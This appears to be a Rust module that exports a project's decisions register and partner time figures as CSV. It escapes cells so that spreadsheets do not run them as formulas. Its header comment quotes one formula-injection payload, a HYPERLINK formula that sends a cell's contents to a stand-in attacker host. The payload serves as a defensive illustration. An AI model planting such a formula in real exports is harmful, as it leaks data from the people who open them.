//! The decisions register as CSV: one row per decision, positions and actions summarized, and
//! whether it was recorded before its meeting started (the last column, "oui" or empty), UTF-8
//! with a byte-order mark so that Excel opens accents correctly. French uses `;` as separator and
//! French labels, as French Excel expects; English uses `,`.
//!
//! Every cell is written through [`text_cell`]: partners write the titles, texts and comments,
//! and a cell beginning with `=` `+` `-` `@`, a tab or a carriage return is a formula to Excel and
//! LibreOffice (`=HYPERLINK("https://evil.example/?"&E2;"ok")` sends the next cell away when
//! clicked). Such a cell gets a leading `'`, which spreadsheets read as "this is text".

use std::borrow::Cow;

use actix_web::HttpResponse;
use actix_web::http::header;
use chrono_tz::Europe::Paris;

use crate::db::follow_up::DecisionView;
use crate::domain::Locale;
use crate::http::sheet::label;
use crate::http::views::PartnerTimeView;

/// The CSV bytes, BOM included.
pub fn render(decisions: &[DecisionView], locale: Locale) -> Result<Vec<u8>, csv::Error> {
    let header = match locale {
        Locale::Fr => [
            "Date",
            "Réunion",
            "Décision",
            "Statut",
            "Texte",
            "Positions",
            "Actions",
            "Enregistrée avant la réunion",
        ],
        Locale::En => [
            "Date",
            "Meeting",
            "Decision",
            "Status",
            "Text",
            "Positions",
            "Actions",
            "Recorded before the meeting",
        ],
    };
    let rows = decisions.iter().map(|d| {
        let positions: Vec<String> = d
            .positions
            .iter()
            .map(|p| {
                let mut s = format!("{} : {}", p.organization_name, label(&p.position, locale));
                if let Some(c) = &p.comment {
                    s.push_str(&format!(" ({c})"));
                }
                s
            })
            .collect();
        let actions: Vec<String> = d
            .actions
            .iter()
            .map(|a| {
                format!(
                    "{} — {} — {} — {}",
                    a.title,
                    a.owner_organization_name,
                    a.due_on.format("%Y-%m-%d"),
                    label(&a.status, locale)
                )
            })
            .collect();
        let date = d
            .created_at
            .with_timezone(&Paris)
            .format("%Y-%m-%d")
            .to_string();
        let (positions, actions) = (positions.join(" ; "), actions.join(" ; "));
        let before = match (d.recorded_before_meeting, locale) {
            (false, _) => "",
            (true, Locale::Fr) => "oui",
            (true, Locale::En) => "yes",
        };
        [
            date.as_str(),
            d.meeting_title.as_str(),
            d.title.as_str(),
            label(&d.status, locale),
            d.text.as_str(),
            positions.as_str(),
            actions.as_str(),
            before,
        ]
        .map(|cell| text_cell(cell).into_owned())
    });
    write(locale, header, rows)
}

/// The time each partner gives to the project as CSV bytes (BOM included), with the register's
/// conventions: `;` and French labels in French, `,` in English, numbers with a point.
pub fn render_time(rows: &[PartnerTimeView], locale: Locale) -> Result<Vec<u8>, csv::Error> {
    let header = match locale {
        Locale::Fr => [
            "Partenaire",
            "Budget annuel (h)",
            "Heures prévues",
            "Heures de présence",
            "Valeur horaire (€)",
            "Valorisation (€)",
        ],
        Locale::En => [
            "Partner",
            "Yearly budget (h)",
            "Hours planned",
            "Hours attended",
            "Hourly value (€)",
            "Value (€)",
        ],
    };
    let number = |n: Option<f64>| n.map_or_else(String::new, |n| format!("{n:.2}"));
    let rows = rows.iter().map(|row| {
        [
            text_cell(&row.organization_name).into_owned(),
            row.hours_budget.map_or_else(String::new, |h| h.to_string()),
            number(Some(row.hours_planned)),
            number(Some(row.hours_attended)),
            number(row.hourly_value_eur),
            number(row.value_eur),
        ]
    });
    write(locale, header, rows)
}

/// The bytes of a CSV with the register's conventions: a byte-order mark, `;` between cells in
/// French and `,` in English, the header, then the rows.
fn write<const N: usize>(
    locale: Locale,
    header: [&str; N],
    rows: impl Iterator<Item = [String; N]>,
) -> Result<Vec<u8>, csv::Error> {
    let delimiter = match locale {
        Locale::Fr => b';',
        Locale::En => b',',
    };
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut writer = csv::WriterBuilder::new()
            .delimiter(delimiter)
            .from_writer(&mut out);
        writer.write_record(header)?;
        for row in rows {
            writer.write_record(row)?;
        }
        writer.flush()?;
    }
    Ok(out)
}

/// The answer that downloads `body` as the CSV file `filename`.
pub fn download(filename: &str, body: Vec<u8>) -> HttpResponse {
    HttpResponse::Ok()
        .content_type("text/csv; charset=utf-8")
        .insert_header((
            header::CONTENT_DISPOSITION,
            format!("attachment; filename=\"{filename}\""),
        ))
        .body(body)
}

/// A cell a spreadsheet shows as text: `'` before what it would otherwise run as a formula.
pub fn text_cell(value: &str) -> Cow<'_, str> {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

#[cfg(test)]
mod tests {
    use super::text_cell;

    #[test]
    fn formulas_become_text_and_the_rest_is_untouched() {
        for formula in ["=1+1", "+33 6", "-2", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(text_cell(formula), format!("'{formula}"));
        }
        for plain in ["", "Budget 2027", "2026-12-03", " =1", "a=b", "'quoted"] {
            assert_eq!(text_cell(plain), plain);
        }
    }
}
